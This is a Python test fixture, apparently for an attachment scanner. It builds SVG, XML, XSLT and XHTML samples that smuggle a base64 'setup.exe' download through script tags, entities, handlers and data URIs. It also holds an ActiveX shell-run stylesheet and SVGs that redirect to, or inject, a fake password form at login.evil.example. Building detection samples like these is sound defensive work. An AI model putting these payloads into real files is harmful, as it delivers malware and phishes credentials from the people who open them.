"""Attached pictures and XML that act once a browser reads them as XML."""

# ruff: noqa: E501  scripts are one line each, as they are mailed

import base64

from tests.pages.smuggling_pages import PAYLOADS, SAVE

CODE = f"var s=atob('{base64.b64encode(PAYLOADS['setup.exe']).decode()}');" + SAVE.replace(
    "document.body.appendChild(a);", ""
)
ESCAPED = CODE.replace("&", "&amp;").replace("<", "&lt;")
SVG, XHTML = "http://www.w3.org/2000/svg", "http://www.w3.org/1999/xhtml"

# By the name of the file. Each saves the payload.
_SMUGGLING: dict[str, dict[str, str]] = {
    "a.svg": {
        "script": f"<svg xmlns='{SVG}'><script>{ESCAPED}</script></svg>",
        "section": f"<svg xmlns='{SVG}'><script><![CDATA[{CODE}]]></script></svg>",
        "prefix": f"<?xml version='1.0'?><s:svg xmlns:s='{SVG}'><s:script>{ESCAPED}</s:script></s:svg>",
        "prefix without declaration": f"<s:svg xmlns:s='{SVG}'><s:script>{ESCAPED}</s:script></s:svg>",
        "page in a picture": f"<svg xmlns='{SVG}' xmlns:h='{XHTML}'><h:script>{ESCAPED}</h:script></svg>",
        "entity of code": f"<!DOCTYPE svg [<!ENTITY c \"{ESCAPED.replace('&lt;', '&#38;#60;')}\">]><svg xmlns='{SVG}'><script>&c;</script></svg>",
        "entity of markup": f"<!DOCTYPE svg [<!ENTITY m \"<script>{ESCAPED.replace('&lt;', '&#38;#60;')}</script>\">]><svg xmlns='{SVG}'>&m;</svg>",
        "handler": f"<svg xmlns='{SVG}' onload=\"{ESCAPED}\"/>",
        "script without an end": f"<svg xmlns='{SVG}'><script>{ESCAPED}</script><g>",
        "data address": f"<svg xmlns='{SVG}' xmlns:x='http://www.w3.org/1999/xlink'><script x:href='data:text/javascript;base64,{base64.b64encode(CODE.encode()).decode()}'/></svg>",
        "script link": f"<!DOCTYPE svg [<!ENTITY j 'javascript:'>]><svg xmlns='{SVG}'><a href=\"&j;{ESCAPED}\"><text>Open</text></a></svg>",
        "foreign object": f"<svg xmlns='{SVG}'><foreignObject><body xmlns='{XHTML}'><img src='x' onerror=\"{ESCAPED}\"/></body></foreignObject></svg>",
    },
    "a.xml": {
        "xml": f"<?xml version='1.0'?><invoice xmlns:h='{XHTML}'><h:script>{ESCAPED}</h:script></invoice>",
        "xml with a picture": f"<?xml version='1.0'?><invoice><svg xmlns='{SVG}' onload=\"{ESCAPED}\"/></invoice>",
        "transformation": f"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='#s'?><d><x:stylesheet id='s' version='1.0' xmlns:x='http://www.w3.org/1999/XSL/Transform'><x:template match='/'><html><script>{ESCAPED}</script></html></x:template></x:stylesheet></d>",
    },
    "a.xhtml": {
        "strict page": f"<?xml version='1.0'?><html xmlns='{XHTML}'><body><script>{ESCAPED}</script></body></html>",
        "strict page with letters": f"<html xmlns='{XHTML}'><body><script>{''.join(f'&#{ord(char)};' for char in CODE)}</script></body></html>",
    },
}
# These act in another way.
_ACTING: dict[str, dict[str, str]] = {
    "a.xml": {
        "transformation from a server": "<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='https://evil.example/a.xsl'?><invoice/>",
        "transformation in the address": "<?xml version='1.0'?><?xml-stylesheet type='text/xml' href='data:text/xml,%3Cx/%3E'?><invoice/>",
    },
    "a.xsl": {
        "script of the processor": "<?xml version='1.0'?><x:stylesheet version='1.0' xmlns:x='http://www.w3.org/1999/XSL/Transform' xmlns:m='urn:schemas-microsoft-com:xslt'><m:script language='JScript'>new ActiveXObject('WScript.Shell').Run('calc')</m:script></x:stylesheet>",
    },
    "a.svg": {
        "login page": f"<svg xmlns='{SVG}'><script>document.documentElement.innerHTML=atob('{base64.b64encode(b'<form action=https://login.evil.example/><input type=password></form>').decode()}')</script></svg>",
        "redirect": f"<s:svg xmlns:s='{SVG}'><s:script>location.href=atob('{base64.b64encode(b'https://login.evil.example/').decode()}')</s:script></s:svg>",
    },
}
# By name: the name of the file, and the file.
SMUGGLING, ACTING = (
    {name: (file, content) for file, contents in files.items() for name, content in contents.items()}
    for files in (_SMUGGLING, _ACTING)
)
